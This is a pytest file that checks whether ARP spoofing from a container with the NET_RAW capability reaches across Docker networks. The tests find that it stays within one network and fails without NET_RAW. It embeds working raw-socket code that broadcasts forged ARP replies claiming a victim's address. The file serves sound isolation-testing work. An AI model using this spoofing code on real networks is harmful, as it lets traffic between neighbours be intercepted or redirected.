"""ARP spoofing: a container with NET_RAW, as all have, tells everybody that a stranger's address is his (RFC 826).

Between stacks it does not carry: each network is a bridge of its own.  Within one network it works, as it does with Docker; whoever does
not trust his neighbours takes NET_RAW away or gives them networks of their own.
"""

from collections.abc import Iterator
from pathlib import Path

import pytest
from prison import Prison

CLAIM = """
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
    raw.bind(("eth0", 0))
    mine = raw.getsockname()[4]
    victim, asked = socket.inet_aton("VICTIM"), socket.inet_aton("ASKED")
    # An answer nobody has asked for, to everybody: VICTIM is at my address
    for operation in (1, 2):
        body = struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, operation, mine, victim, b"\\xff" * 6, asked)
        for _ in range(3):
            raw.send(b"\\xff" * 6 + mine + b"\\x08\\x06" + body)
print("mine", mine.hex(":"))
"""


@pytest.fixture(scope="module")
def peers(prison: Prison) -> Iterator[dict[str, str]]:
    """Addresses of `victim` and of `friend`, who has just spoken with it, in a network of their own."""
    machine = prison.machine
    for name in ("theirs", "ours"):
        machine.docker("network", "create", name)
    for name in ("victim", "friend"):
        machine.docker("run", "-d", "--name", name, "--network", "theirs", "--cap-add", "NET_ADMIN", "host", "sleep", "1000")
    yield {name: machine.inspect(name)["NetworkSettings"]["Networks"]["theirs"]["IPAddress"] for name in ("victim", "friend")}
    machine.docker("rm", "-f", "victim", "friend")
    machine.docker("network", "rm", "theirs", "ours")


def known_as(prison: Prison, peers: dict[str, str]) -> str:
    """The victim's address as its friend knows it after a word to it."""
    speak = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{peers['victim']}', 9))"
    prison.machine.docker("exec", "friend", "python3", "-c", speak)
    table = prison.machine.docker("exec", "friend", "cat", "/proc/net/arp").stdout
    return next((line.split()[3] for line in table.splitlines() if line.startswith(f"{peers['victim']} ")), "")


def claim(prison: Prison, peers: dict[str, str], network: str) -> str:
    """Somebody in `network` claims the victim's address, and asks the friend and the host; returns his own."""
    script = CLAIM.replace("VICTIM", peers["victim"]).replace("ASKED", peers["friend"])
    return prison.lines(script, "--network", network)["mine"]


def test_it_does_not_reach_another_stack(prison: Prison, peers: dict[str, str]) -> None:
    before = known_as(prison, peers)
    spoofer = claim(prison, peers, "ours")
    assert known_as(prison, peers) == before != spoofer
    assert not [line for line in Path("/proc/net/arp").read_text().splitlines() if peers["victim"] in line and spoofer in line]


def test_the_attempt_works_within_a_network(prison: Prison, peers: dict[str, str]) -> None:
    known_as(prison, peers)
    assert known_as_after(prison, peers, claim(prison, peers, "theirs"))


def known_as_after(prison: Prison, peers: dict[str, str], spoofer: str) -> bool:
    table = prison.machine.docker("exec", "friend", "cat", "/proc/net/arp").stdout
    return any(line.startswith(f"{peers['victim']} ") and spoofer in line for line in table.splitlines())


def test_without_the_right_to_raw_sockets_nothing_can_be_claimed(prison: Prison, peers: dict[str, str]) -> None:
    script = CLAIM.replace("VICTIM", peers["victim"]).replace("ASKED", peers["friend"])
    assert "PermissionError" in prison.run(script, "--network", "theirs", "--cap-drop", "NET_RAW")
